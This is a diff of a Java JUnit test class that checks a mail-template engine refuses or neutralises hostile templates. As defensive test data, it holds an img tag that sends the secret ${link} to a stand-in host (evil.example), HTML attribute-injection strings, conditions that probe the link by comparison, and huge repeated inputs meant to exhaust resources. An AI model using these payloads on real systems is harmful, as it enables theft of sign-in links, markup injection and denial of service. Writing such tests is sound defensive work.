@@ -13,6 +13,9 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 /** Templates that try to reach, to repeat, to grow, or to break out of their place. */
 class HostileTemplateTest {
+    private static final Map<String, String> VALUES =
+            Map.of("name", "x onload=y", "words", "\"'><img src=x>", "link", ReadMail.LINK, "code", "654321");
+
     @ParameterizedTest
     @HostileTemplates("reaching.txt")
     void reaches_nothing_and_defines_nothing(String template) {
@@ -47,16 +50,49 @@ class HostileTemplateTest {
         refused(Templates.html("<p>" + template + "</p>"));
     }
 
+    /** A browser, too, reads them otherwise than they look. */
+    @ParameterizedTest
+    @HostileTemplates("tidied.txt")
+    void writes_anew_what_is_odd_but_harmless(String template) throws UnusableTemplate {
+        assertThat(Templates.problems(Templates.html(template))).isEmpty();
+        ReadMail.requireHarmless(written(Templates.html(template)));
+    }
+
     @Test
     void says_where_the_link_may_stand() {
         assertThat(Templates.problems(Templates.html("<p>\n<img src=\"https://evil.example/?l=${link}\"></p>")))
-                .containsExactly("2:35 Who has this value is taken for the recipient: it may stand in a text, with a"
-                        + " blank before it, or be the whole address of a link, <a href=\"${link}\">; nowhere else.");
+                .containsExactly(
+                        "Who has ${link} or ${code} is taken for the recipient: either may stand in a text, as it"
+                                + " is and with blanks around it, and ${link} be the whole address of a link,"
+                                + " <a href=\"${link}\">; nowhere else.");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"${link}", "Code ${code}", "${code?upper_case}"})
+    void a_subject_has_neither_link_nor_code(String subject) {
+        assertThat(Templates.problems(Templates.subject(subject)))
+                .containsExactly(
+                        "Who has ${link} or ${code} is taken for the recipient: neither may stand in a subject.");
+    }
+
+    /** Character by character, which would tell it, were it there to be compared. */
+    @Test
+    void the_link_cannot_be_guessed_by_comparing() {
+        assertThat(Templates.written(
+                        "<#if link?starts_with('https:')>h</#if><#if link?ends_with('&c=d')>d</#if>" + "<#if link == '"
+                                + ReadMail.LINK + "'>all</#if>",
+                        VALUES))
+                .isEmpty();
     }
 
     @ParameterizedTest
     @ValueSource(
             strings = {
+                "Open \u201E${link}\u201C, or \u00AB\u00A0${link}\u00A0\u00BB!",
+                "<p>Open:</p><p>${link}</p><p>${code}</p>",
+                "Code: <b>${code}</b>.<br>${link}<br>",
+                "<a href=\"${link}\">${link}</a>",
+                "&lt;${link}&gt;",
                 "Open ${link}.",
                 "<p>${link}</p>",
                 "<a href=\"${link}\">Open</a>",
@@ -75,27 +111,22 @@ class HostileTemplateTest {
             refused(Templates.text("${" + "name+".repeat(50) + "name}"));
             refused(Templates.text("${name" + "?trim".repeat(50) + "}"));
             refused(Templates.text("${" + "(".repeat(21) + "name" + ")".repeat(21) + "}"));
-            refused(Templates.text("<#if " + "!".repeat(21) + "true>x</#if>"));
             refused(Templates.text("<#if true>".repeat(21) + "x" + "</#if>".repeat(21)));
             refused(Templates.text("${" + "(".repeat(30_000)));
             refused(Templates.text("<#if " + "!".repeat(60_000)));
-            refused(Templates.html("<b>".repeat(20_000)));
         }
 
-        @Test
-        void a_hundred_elements_may_be_open() {
-            assertThat(Templates.problems(Templates.html("<b>".repeat(100) + "</b>".repeat(100))))
-                    .isEmpty();
-            assertThat(Templates.problems(Templates.html("<b>\n".repeat(101) + "</b>".repeat(101))))
-                    .containsExactly("101:1 More than 100 elements are open here; end some, such as each p with </p>.");
-        }
-
-        /** Each tag costs as much as there are elements around it. */
-        @Test
-        void elements_without_end_are_refused_at_once() {
+        @ParameterizedTest
+        @ValueSource(strings = {"<p>", "<b>", "<p><b><i>", "<table>", "<", "<a b=1 ", "&", "<p style='a:((('>", "<!--"})
+        void html_that_costs_much_is_stopped_or_written_soon(String dear) {
             long start = cpuMillis();
-            refused(Templates.html("<p>".repeat(20_000)));
-            assertThat(cpuMillis() - start).isLessThan(200);
+            OwnTemplate template = Templates.html(dear.repeat(60_000 / dear.length()));
+            try {
+                ReadMail.requireHarmless(written(template));
+            } catch (UnusableTemplate stopped) {
+                assertThat(stopped).hasMessageMatching("HTML: the (mail has more|template needed more) than .*");
+            }
+            assertThat(cpuMillis() - start).isLessThan(5_000);
         }
 
         @Test
@@ -131,13 +162,19 @@ class HostileTemplateTest {
         }
     }
 
+    /** It is not saved; one that was saved earlier writes nothing, or what is harmless. */
     private static void refused(OwnTemplate template) {
-        assertThat(template.problems()).isNotEmpty().allSatisfy(problem -> {
-            assertThat(problem.line()).isPositive();
-            assertThat(problem.column()).isPositive();
-            assertThat(problem.message()).isNotBlank();
-        });
-        assertThatThrownBy(() -> template.write(Locale.ENGLISH, Map.of("name", "Ann")))
-                .isInstanceOf(UnusableTemplate.class);
+        assertThat(template.problems())
+                .isNotEmpty()
+                .allSatisfy(problem -> assertThat(problem.message()).isNotBlank());
+        try {
+            ReadMail.requireHarmless(written(template));
+        } catch (UnusableTemplate unusable) {
+            assertThat(unusable.problem().message()).isNotBlank();
+        }
+    }
+
+    private static String written(OwnTemplate template) throws UnusableTemplate {
+        return template.write(Locale.ENGLISH, VALUES).mail().html().orElse("");
     }
 }
